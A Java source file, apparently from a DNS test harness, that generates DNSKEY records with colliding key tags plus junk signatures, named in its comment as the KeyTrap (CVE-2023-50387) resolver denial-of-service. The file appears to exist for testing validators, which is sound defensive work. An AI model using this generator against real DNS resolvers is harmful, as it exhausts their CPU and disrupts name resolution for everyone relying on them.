package dev.mailcheck.world.dns;

import dev.mailcheck.world.key.Seeds;

import org.xbill.DNS.DClass;
import org.xbill.DNS.DNSKEYRecord;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;

/**
 * Worthless keys with the key tag of a true one, and worthless signatures: together they make a
 * validator try each signature with each key (CVE-2023-50387, "KeyTrap").
 */
final class CollidingKeys {
    /** The exponent of an RSA key is kept, or nobody would try the rest. */
    private static final int KEPT_BYTES = 4;

    private CollidingKeys() {}

    static List<DNSKEYRecord> of(DNSKEYRecord trueKey, int count) {
        return IntStream.range(0, count).mapToObj(i -> colliding(trueKey, i)).toList();
    }

    static List<byte[]> signatures(byte[] trueSignature, int count) {
        List<byte[]> signatures = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            signatures.add(noise("signature " + i, trueSignature.length));
        }
        return signatures;
    }

    private static DNSKEYRecord colliding(DNSKEYRecord trueKey, int number) {
        byte[] key = noise("key " + number, trueKey.getKey().length);
        System.arraycopy(trueKey.getKey(), 0, key, 0, KEPT_BYTES);
        int word = KEPT_BYTES;
        set(key, word, 0);
        int missing = trueKey.getFootprint() - with(trueKey, key).getFootprint();
        return IntStream.of(missing, missing - 1, missing + 1)
                .mapToObj(value -> {
                    byte[] adjusted = key.clone();
                    set(adjusted, word, value);
                    return with(trueKey, adjusted);
                })
                .filter(candidate -> candidate.getFootprint() == trueKey.getFootprint())
                .findFirst()
                .orElseThrow();
    }

    private static void set(byte[] key, int word, int value) {
        key[word] = (byte) (value >> 8);
        key[word + 1] = (byte) value;
    }

    private static DNSKEYRecord with(DNSKEYRecord like, byte[] key) {
        return new DNSKEYRecord(
                like.getName(),
                DClass.IN,
                like.getTTL(),
                like.getFlags(),
                like.getProtocol(),
                like.getAlgorithm(),
                key);
    }

    private static byte[] noise(String label, int length) {
        byte[] noise = new byte[length];
        byte[] block = Seeds.of("noise", label);
        for (int at = 0; at < length; at += block.length) {
            block = Seeds.sha256(block);
            System.arraycopy(block, 0, noise, at, Math.min(block.length, length - at));
        }
        return noise;
    }
}
